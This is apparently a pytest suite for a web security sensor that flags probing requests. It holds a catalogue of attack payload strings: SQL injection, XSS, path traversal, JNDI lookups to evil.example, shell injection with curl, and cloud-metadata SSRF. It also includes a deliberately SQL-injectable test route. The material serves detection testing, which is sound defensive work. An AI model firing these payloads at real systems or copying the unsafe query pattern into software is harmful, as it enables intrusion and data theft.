"""Probes: what looks like an attack and reached nothing, what does not, and waves."""

from __future__ import annotations

import sqlite3
import time
from collections.abc import Callable, Iterable
from contextlib import suppress
from io import BytesIO
from typing import Any
from urllib.parse import quote_plus
from wsgiref.util import setup_testing_defaults

import pytest

from divertor_sensor import Mode
from divertor_sensor.frameworks.wsgi import DivertorWSGI
from divertor_sensor.modes import RouteRule
from divertor_sensor.probes import IN_TOTAL, PER_CLIENT, WAVE, Probes, sign_of
from divertor_sensor.reports.detection import Detection, Report
from divertor_sensor.request import Head, Request
from divertor_sensor.responses import Raw
from divertor_sensor.sensor import Sensor

MakeSensor = Callable[..., Sensor]

SHAPES = {
    "sql_injection": [
        "' or 1=1 --",
        "1' and '1'='1",
        "x') or ('a'='a",
        "1 union select null,null",
        "-1/**/UNION/**/ALL/**/SELECT 1",
        "1; drop table users; --'; drop table x",
        "1 or 1=1",
        "' waitfor delay '0:0:5'--",
        "sleep(5)",
        "1 and extractvalue(1, 2)",
        "admin'--",
        "admin' #",
        "x' union select password from information_schema.tables",
        "1 order by 10--",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg/onload=alert(1)>',
        '" onmouseover="alert(1)',
        "javascript:alert(1)",
    ],
    "path_traversal": [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "....//....//etc/shadow",
        "php://filter/convert.base64-encode/resource=index",
        "file:///c:/boot.ini",
        "x\0.png",
        "%2e%2e%2fetc%2fpasswd",
    ],
    "template_injection": ["{{7*7}}", "{{ ''.__class__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}"],
    "jndi_lookup": ["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://e/a}"],
    "shell_injection": [
        ";id",
        "x|cat /x",
        "$(whoami)",
        "`uname -a`",
        "x && curl http://e.example",
        "() { :;}; x",
    ],
    "xml_external_entity": ['<!DOCTYPE a [<!ENTITY x SYSTEM "http://e">]>'],
    "nosql_injection": ['{"$ne": null}', "{'user': {'$gt': ''}}"],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data",
        "http://localhost:8080/",
        "gopher://127.0.0.1:6379/x",
    ],
    "header_injection": ["x\r\nSet-Cookie: a=b"],
    "unsafe_deserialisation": ['O:8:"stdClass":1:{', "rO0ABXNyAA=="],
}
BENIGN = [
    "red shoes",
    "O'Brien",
    "it's fine -- really",
    "5 > 3 and 2 < 4",
    "Tom & Jerry",
    "select a seat for the union",
    "order by phone",
    "50% off; today only",
    "C++ or Java",
    "a=b&c=d",
    "the cat | the dog",
    "https://example.com/page?x=1",
    "user@example.com",
    "2026-01-31T12:00:00Z",
    "{'json': 1}",
    '{"name": "O\'Brien", "age": 3}',
    "<3 you",
    "price $5 (net)",
    "rock 'n' roll and '90s pop",
    "'tis or 'twas",
    "path/to/file.txt",
    "drop the table; or alter it",
    "{{ name }}",
    "${amount}",
    "#1 (the best)",
    "wait... what?",
    "1 or 2 items",
    "Jack's and Jill's",
    "sleep (8 hours)",
    "a;b;c",
    "echo & the bunnymen",
    "fish && chips",
    "Dear all,\nping me when you are there",
    "eat & sleep well",
    "dogs; cat people",
    "<!DOCTYPE html PUBLIC '-//W3C//DTD XHTML 1.0//EN' 'http://www.w3.org/TR/xhtml1/DTD/xhtml1.dtd'>",
]
COUNT = 50


def form(name: str, value: bytes, file: str = "") -> bytes:
    head = f'--b\r\nContent-Disposition: form-data; name="{name}"'
    if file:
        head += f'; filename="{file}"\r\nContent-Type: text/plain'
    return f"{head}\r\n\r\n".encode() + value + b"\r\n--b--\r\n"


def raw(query: str = "", path: str = "/", cookie: str = "", agent: str = "curl/8") -> Raw:
    return Raw(query, path, cookie, "", agent)


CASES = [(kind, text) for kind, texts in SHAPES.items() for text in texts]


@pytest.mark.parametrize(("kind", "text"), CASES)
def test_the_shape_of_an_attack_is_known_in_a_query_and_a_form(kind: str, text: str) -> None:
    piece = f"q={quote_plus(text)}&page=2"
    found = [sign_of(raw(piece), b"", 200), sign_of(raw(), piece.encode(), 200)]
    assert [sign and (sign.type, sign.name) for sign in found] == [(kind, "q"), (kind, "q")]


def test_every_shape_was_tried() -> None:
    assert (len(CASES), len(BENIGN)) == (COUNT, 36)


def test_a_path_of_the_system_needs_no_encoding_to_be_a_probe() -> None:
    sign = sign_of(raw("file=/etc/passwd"), b"", 200)
    assert sign is not None and (sign.type, sign.name) == ("path_traversal", "file")


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_text_is_no_probe(text: str) -> None:
    piece = f"q={quote_plus(text)}&page=2"
    assert sign_of(raw(piece, cookie=f"theme={text}; session=a.b-c_d"), piece.encode(), 200) is None
    assert sign_of(raw(), f'{{"q": "{text}"}}'.encode(), 200) is None


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_text_in_a_multipart_form_is_no_probe(text: str) -> None:
    assert sign_of(raw(), form("q", text.encode()), 200) is None
    assert sign_of(raw(), form("note", b"", "O'Brien & Sons (1).txt") + form("q", text.encode()), 200) is None


@pytest.mark.parametrize(
    "content",
    [b"plain", b"select 1 union select 2", b"<script>run()</script>", b"\0\1\2 ../ ' or 1=1 --"],
)
def test_what_an_uploaded_file_holds_is_no_probe(content: bytes) -> None:
    assert sign_of(raw(), form("file", content, "a.bin"), 200) is None


@pytest.mark.parametrize("head", ["", '; name="filename"', "; name=q"])
def test_a_part_is_no_file_because_of_its_name(head: str) -> None:
    body = f"--b\r\nContent-Disposition: form-data{head}\r\n\r\n' or 1=1 --\r\n--b--\r\n"
    sign = sign_of(raw(), body.encode(), 200)
    assert sign is not None and (sign.type, sign.source) == ("sql_injection", "form")


def test_a_body_that_is_no_text_is_no_probe() -> None:
    assert sign_of(raw(), b"\x89PNG\r\n\x1a\n\0\0\0../;id", 200) is None


@pytest.mark.parametrize(("kind", "text"), CASES)
def test_the_shape_of_an_attack_is_known_in_a_multipart_form(kind: str, text: str) -> None:
    sign = sign_of(raw(), form("q", text.encode()), 200)
    # Such a form is not percent-encoded.
    expected = None if text.startswith("%2e") else (kind, "form", "q")
    assert (sign and (sign.type, sign.source, sign.name)) == expected


def test_a_file_name_with_the_shape_of_an_attack_is_a_probe() -> None:
    sign = sign_of(raw(), form("file", b"x", "../../etc/passwd"), 200)
    assert sign is not None and (sign.type, sign.source, sign.name) == ("path_traversal", "file", "file")


@pytest.mark.parametrize(
    ("path", "status", "kind"),
    [
        ("/.env", 404, "forced_browsing"),
        ("/.git/config", 403, "forced_browsing"),
        ("/wp-login.php", 404, "forced_browsing"),
        ("/admin/backup.sql", 404, "forced_browsing"),
        ("/cgi-bin/test", 404, "forced_browsing"),
        ("/../../etc/passwd", 400, "path_traversal"),
        ("/wp-login.php", 200, None),
        ("/.well-known/acme-challenge/x", 404, None),
        ("/articles/wp-admin-guide", 404, None),
        ("/missing", 404, None),
        ("/a..b/c.html", 404, None),
        ("/users/O'Brien", 404, None),
    ],
)
def test_a_path_that_scanners_ask_for_counts_where_nothing_is(
    path: str, status: int, kind: str | None
) -> None:
    sign = sign_of(raw(path=path), b"", status)
    assert (sign and sign.type) == kind


@pytest.mark.parametrize(
    ("agent", "kind"),
    [
        ("sqlmap/1.7", "scanner"),
        ("Mozilla/5.0 (compatible; Nuclei - Open-source project)", "scanner"),
        ("${jndi:ldap://e.example/a}", "jndi_lookup"),
        ("() { :;}; /bin/bash -c x", "shell_injection"),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari",
            None,
        ),
        ("python-requests/2.31", None),
        ('Mozilla/5.0 (iPhone; it\'s "new")', None),
    ],
)
def test_a_scanner_is_known_by_its_name(agent: str, kind: str | None) -> None:
    sign = sign_of(raw(agent=agent), b"", 200)
    assert (sign and sign.type) == kind


def test_a_cookie_is_looked_at() -> None:
    sign = sign_of(raw(cookie="a=b; id=1' or '1'='1"), b"", 200)
    assert sign is not None and (sign.type, sign.source) == ("sql_injection", "cookie")


@pytest.mark.parametrize(
    "piece",
    ["'", "<", "${", "{{", "' or ", "<!doctype ", "../", "union ", "; ", '"   ', "%27", "<a ", "x\n", "/**/"],
)
def test_a_long_text_is_judged_in_time_in_proportion_to_its_length(piece: str) -> None:
    def took(count: int) -> float:
        text = (piece * count)[: 8 * 1024]
        started = time.perf_counter()
        sign_of(raw(f"q={text}"), text.encode(), 200)
        return time.perf_counter() - started

    assert took(8 * 1024) < 0.5


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def request(sensor: Sensor, address: str = "10.0.0.9", path: str = "/") -> Request:
    return Request(sensor, lambda: Head("GET", path, "q=1", {}, address))


PROBE = raw("q=%27+or+1%3D1+--")


def kinds(reported: list[Report]) -> list[str]:
    return [each.type for each in reported if isinstance(each, Detection)]


def test_probes_of_a_client_are_told_a_few_times_and_then_counted(
    make_sensor: MakeSensor, reported: list[Report]
) -> None:
    clock = Clock()
    sensor, probes = make_sensor(), Probes(clock)
    for _ in range(10):
        probes.judge(request(sensor), PROBE)
    assert kinds(reported) == ["sql_injection"] * PER_CLIENT and probes.dropped == 10 - PER_CLIENT
    clock.now += 61
    probes.judge(request(sensor), PROBE)
    assert len(reported) == PER_CLIENT + 1


def test_many_probes_within_a_minute_are_a_wave_told_once(
    make_sensor: MakeSensor, reported: list[Report]
) -> None:
    clock = Clock()
    sensor, probes = make_sensor(), Probes(clock)
    for _ in range(3 * WAVE):
        clock.now += 1
        probes.judge(request(sensor), PROBE)
    waves = [each for each in reported if isinstance(each, Detection) and each.type == "attack_wave"]
    assert [each.payload for each in waves] == [f"{WAVE} in 60 s: sql_injection {WAVE}"]
    clock.now += 1200
    for _ in range(WAVE):
        probes.judge(request(sensor), PROBE)
    assert kinds(reported).count("attack_wave") == 2


def test_probes_far_apart_are_no_wave(make_sensor: MakeSensor, reported: list[Report]) -> None:
    clock = Clock()
    sensor, probes = make_sensor(), Probes(clock)
    for _ in range(3 * WAVE):
        clock.now += 10
        probes.judge(request(sensor), PROBE)
    assert "attack_wave" not in kinds(reported)


def test_the_probes_of_all_clients_together_are_bounded(
    make_sensor: MakeSensor, reported: list[Report]
) -> None:
    sensor, probes = make_sensor(), Probes(Clock())
    for number in range(3000):
        probes.judge(request(sensor, f"10.1.{number // 256}.{number % 256}"), PROBE)
    assert len(reported) == IN_TOTAL and probes.dropped == 3000 - IN_TOTAL
    assert len(probes._clients) == 2048


def test_an_honest_request_is_nothing(make_sensor: MakeSensor, reported: list[Report]) -> None:
    probes = Probes(Clock())
    probes.judge(request(make_sensor()), raw("q=red+shoes&page=2", "/shop/list"))
    assert not reported and not probes._clients


def app(environ: dict[str, Any], start_response: Any) -> Iterable[bytes]:
    """Binds its value, or not."""
    text = environ["wsgi.input"].read().decode()
    database = sqlite3.connect(":memory:")
    try:
        if environ["PATH_INFO"] == "/careless":
            database.execute(f"select 1 where 'a' = '{text}'").fetchall()
        else:
            database.execute("select 1 where 'a' = ?", (text,)).fetchall()
    finally:
        database.close()
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok"]


def post(sensor: Sensor, path: str, body: bytes) -> None:
    environ: dict[str, Any] = {"wsgi.input": BytesIO(body), "CONTENT_LENGTH": str(len(body))}
    environ |= {"PATH_INFO": path, "REMOTE_ADDR": "10.0.0.9", "REQUEST_METHOD": "POST"}
    setup_testing_defaults(environ)
    list(DivertorWSGI(app, sensor)(environ, lambda *_: None))


ATTACK = b"x' or '1'='1"


def test_an_attack_that_a_bound_value_held_is_a_probe(
    make_sensor: MakeSensor, reported: list[Report]
) -> None:
    post(make_sensor(), "/", ATTACK)
    (found,) = reported
    assert isinstance(found, Detection)
    assert (found.signal, found.outcome, found.type, found.source) == (
        "probe",
        "reported",
        "sql_injection",
        "form",
    )
    assert found.payload == ATTACK.decode() and found.summary().startswith("sql_injection probe: form")


def test_an_attack_that_was_stopped_is_no_probe_as_well(
    make_sensor: MakeSensor, reported: list[Report]
) -> None:
    post(make_sensor(), "/careless", ATTACK)
    assert [each.signal for each in reported if isinstance(each, Detection)] == ["attack"]


def test_a_customer_whose_name_breaks_a_careless_statement_makes_no_wave(
    make_sensor: MakeSensor, reported: list[Report]
) -> None:
    sensor = make_sensor()
    for number in range(WAVE):
        with suppress(sqlite3.OperationalError):
            post(sensor, "/careless", f"O'Brien {number}".encode())
    assert {each.signal for each in reported if isinstance(each, Detection)} == {"vulnerability"}


@pytest.mark.parametrize("settings", [{"mode_probe": Mode.OFF}, {"routes": (RouteRule("/", Mode.OFF),)}])
def test_probes_can_be_off_altogether_or_for_a_route(
    make_sensor: MakeSensor, reported: list[Report], settings: dict[str, Any]
) -> None:
    post(make_sensor(**settings), "/", ATTACK)
    assert not reported
